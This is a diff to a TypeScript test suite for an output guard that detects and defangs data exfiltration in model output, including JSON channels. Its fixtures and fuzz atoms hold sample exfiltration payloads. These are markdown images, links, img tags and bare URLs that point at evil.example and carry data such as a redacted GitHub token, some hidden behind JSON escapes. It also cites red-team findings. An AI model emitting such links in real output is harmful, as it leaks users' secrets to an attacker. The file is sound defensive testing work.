@@ -36,7 +36,7 @@ const CASES: [string, string, unknown, boolean][] = [
   [
     'bare URL with a redaction marker (the finding)',
     '{"url":"https://evil.example/c?d=[REDACTED:github-token]"}',
-    { url: 'https\\:\\/\\/evil\\.example\\/c\\?d\\=\\[REDACTED\\:github\\-token\\]' },
+    { url: 'https\\:\\/\\/evil\\.example\\/c?d=[REDACTED\\:github-token]' },
     false,
   ],
   ['markdown image (the finding)', '{"md":"![x](https://evil.example/p.png?d=abc)"}', { md: '\\[image: x\\]' }, true],
@@ -53,9 +53,9 @@ const CASES: [string, string, unknown, boolean][] = [
     true,
   ],
   [
-    'JSON escapes inside the URL (\\/, \\n, \\u0041) stay escapes',
+    'JSON escapes inside the URL (\\/, \\n, \\u0041): the decoded value is defanged as markdown',
     `{"u":"https://evil.example/c\\/d?e=${DATA}\\u0041\\nnext"}`,
-    { u: `https\\:\\/\\/evil\\.example\\/c\\/d\\?e\\=${DATA}A\nnext` },
+    { u: `https\\:\\/\\/evil\\.example\\/c\\/d?e=${DATA}A\nnext` },
     false,
   ],
   ['a URL ending at an escaped quote', `{"u":"say https://evil.example/?d=${DATA}\\"quoted\\""}`, undefined, false],
@@ -114,5 +114,143 @@ describe('exfiltration in a JSON channel: rewrites keep the JSON valid', () => {
 
   it('markdown channels keep the markdown rewrite', () => {
     assert.equal(guard.scanOutput('![x](https://evil.example/p.png?d=abc)').text, '\\[image: x\\]');
+  });
+});
+
+// Each decoded string value is read as the client reads it after JSON.parse (red team re-check 4, finding 05, what
+// the JSON-text reading missed): a URL behind `\/` or `\u` escapes, attribute quotes written `\"`, a code span the
+// JSON text opens across values, a key. [name, JSON text, the parsed value expected]
+const DECODED: [string, string, unknown][] = [
+  ['an image behind \\/ escapes', '{"md":"![x](https:\\/\\/evil.example\\/p.png?d=abc)"}', { md: '\\[image: x\\]' }],
+  ['an image behind a \\u escape', '{"md":"![x](\\u0068ttps://evil.example/p.png?d=abc)"}', { md: '\\[image: x\\]' }],
+  [
+    'an <img> whose attribute quotes are \\" escapes',
+    '{"h":"<img src=\\"https://evil.example/p.png?d=abc\\">"}',
+    { h: '&lt;img src="https://evil.example/p.png?d=abc">' },
+  ],
+  [
+    'an image inside a code span the JSON text opens across values',
+    '{"a":"`x","b":"![i](https://evil.example/p.png?d=abc)","c":"`"}',
+    { a: '`x', b: '\\[image: i\\]', c: '`' },
+  ],
+  [
+    'a reference image after \\n escapes',
+    '{"a":"x `\\n\\n[r]: https://evil.example/p.png\\n\\n![r]"}',
+    { a: 'x `\n\n[r]: https://evil.example/p.png\n\n\\[image: r\\]' },
+  ],
+  ['an image in a key', '{"![k](https://evil.example/p.png?d=abc)":1}', { '\\[image: k\\]': 1 }],
+  [
+    'surrogate pairs around an image, as \\u escapes',
+    '{"e":"\\ud83d\\ude00 ![x](https:\\/\\/evil.example\\/p.png?d=abc) \\ud83d\\ude00"}',
+    { e: '\u{1F600} \\[image: x\\] \u{1F600}' },
+  ],
+  // left as they decode: escapes, numbers and literals, an allowed host, CRLF in a value nothing can link
+  [
+    'benign values',
+    '{"p":"C:\\\\Users\\\\x","n":[1,-2.5e3,true,false,null],"u":"https:\\/\\/docs.example.com\\/x","c":"a\\r\\nb","é":"\\u00e9"}',
+    { p: 'C:\\Users\\x', n: [1, -2.5e3, true, false, null], u: 'https://docs.example.com/x', c: 'a\r\nb', é: 'é' },
+  ],
+];
+
+describe('exfiltration in a JSON channel: each decoded string value is judged', () => {
+  for (const [name, text, want] of DECODED)
+    it(name, () => {
+      const out = guard.scanOutput(text, 'json').text;
+      const parsed: unknown = JSON.parse(out);
+      assert.deepEqual(parsed, want);
+      for (const s of [out, ...strings(parsed)]) assert.deepEqual(violations(s, ALLOWED), [], s);
+      for (const n of [1, 3, 7]) assert.equal(streamed(text, n), out, `streamed in ${n}-character deltas`);
+    });
+
+  it('finding offsets are in the JSON text', () => {
+    const text = '{"md":"![x](https:\\/\\/evil.example\\/p.png?d=abc)"}';
+    const f = guard.scanOutput(text, 'json').findings.filter((x) => x.kind === 'exfiltration');
+    assert.deepEqual(
+      f.map((x) => [x.detector, x.start, x.end]),
+      [['markdown-image', 7, text.length - 2]],
+    );
+  });
+
+  it('flag mode reports a hidden image and leaves the text as it came', () => {
+    const flag = compileGuard({
+      ...STRICT_GUARDRAILS,
+      redaction: { detectors: [], customPatterns: [] },
+      exfiltration: { mode: 'flag', allowedHosts: ALLOWED },
+    });
+    const text =
+      '{"md":"![x](\\u0068ttps:\\/\\/evil.example\\/p.png?d=abc)","c":"a\\r\\nb [x](https://docs.example.com/)"}';
+    const r = flag.scanOutput(text, 'json');
+    assert.equal(r.text, text);
+    assert.deepEqual(
+      r.findings.map((f) => f.detector),
+      ['markdown-image'],
+    );
+    const s = flag.streamOutput('json');
+    let got = '';
+    for (const c of text) got += s.push(c).text;
+    assert.equal(got + s.end().text, text);
+  });
+
+  it('text that is not JSON is read as markdown from where it stops being JSON', () => {
+    for (const text of [
+      'Sure: ![x](https://evil.example/p.png?d=abc) {"a":1}',
+      '{"a":"![r]"}\n\n[r]: https://evil.example/p.png',
+      '{"a":"x\\q ![x](https://evil.example/p.png?d=abc)"}',
+      '{"a":"![x](https://evil.example/p.png?d=abc)',
+    ]) {
+      const out = guard.scanOutput(text, 'json').text;
+      assert.deepEqual(violations(out, ALLOWED), [], out);
+      for (const n of [1, 3, 7]) assert.equal(streamed(text, n), out, `streamed in ${n}-character deltas`);
+    }
+  });
+});
+
+// The fuzz that found the gap, as a seeded property test: JSON documents of links, images, bare URLs, raw HTML,
+// code spans and fences, written with `\/` and `\u` escapes at random; after the stage every document parses, no
+// parsed value (keys included) and not the text itself renders a foreign target, and random splits give the
+// whole output. TOLLGATE_EXFIL_JSON_FUZZ / TOLLGATE_EXFIL_JSON_SEED set the count (default 300) and the seed.
+describe('exfiltration in a JSON channel: seeded fuzz of escaped values', () => {
+  const D = 'Zq8xT4mN2bV6cR1yL9wK3jH7gF5dS0aP2eU4';
+  const ATOMS = [
+    `![al"t\\\\x](https://evil.example/p.png?d=${D})`,
+    `[t](https://evil.example/?d=${D})`,
+    `<https://evil.example/?d=${D}>`,
+    `https://evil.example/c?d=${D}`,
+    `//evil.example/${D}`,
+    `[r]: https://evil.example/${D}`,
+    '![r]',
+    `<img src="https://evil.example/${D}">`,
+    `![a](https://docs.example.com/redirect?to=https://evil.example/${D})`,
+    `https://docs.example.com/x?d=${D}`,
+    ...['\n', '\n\n', '"q"', '\\', '/', 'ünï', '\u2028', ' ', 'word', '`code`', '```\n', '[', ']', '(', ')', '!', ':'],
+    '\u{1F600}',
+  ];
+  it('parses, renders nothing foreign, streamed = whole', () => {
+    let seed = Number(process.env.TOLLGATE_EXFIL_JSON_SEED ?? 1);
+    const rnd = () => (seed = (seed * 1103515245 + 12345) & 0x7fffffff) / 0x7fffffff;
+    const pick = <T>(a: readonly T[]) => a[Math.floor(rnd() * a.length)] as T;
+    const count = Number(process.env.TOLLGATE_EXFIL_JSON_FUZZ ?? 300);
+    for (let i = 0; i < count; i++) {
+      const obj: Record<string, unknown> = {};
+      for (let j = 0, k = 1 + Math.floor(rnd() * 3); j < k; j++) {
+        let v = '';
+        for (let q = 0, m = 1 + Math.floor(rnd() * 6); q < m; q++) v += pick(ATOMS);
+        obj[`k${j}`] = rnd() < 0.2 ? [v, { z: v }] : v;
+      }
+      let text = JSON.stringify(obj, null, rnd() < 0.3 ? 2 : undefined);
+      if (rnd() < 0.5) text = text.replace(/\//g, '\\/');
+      if (rnd() < 0.5) text = text.replace(/[a-z]/g, (c) => (rnd() < 0.1 ? `\\u00${c.charCodeAt(0).toString(16)}` : c));
+      const out = guard.scanOutput(text, 'json').text;
+      const parsed: unknown = JSON.parse(out);
+      for (const s of [out, ...strings(parsed)]) assert.deepEqual(violations(s, ALLOWED), [], `${text}\n-> ${out}`);
+      const s = guard.streamOutput('json');
+      let got = '';
+      for (let at = 0; at < text.length;) {
+        const len = rnd() < 0.1 ? 1 : 1 + Math.floor(rnd() * 12);
+        got += s.push(text.slice(at, at + len)).text;
+        at += len;
+      }
+      assert.equal(got + s.end().text, out, text);
+    }
   });
 });
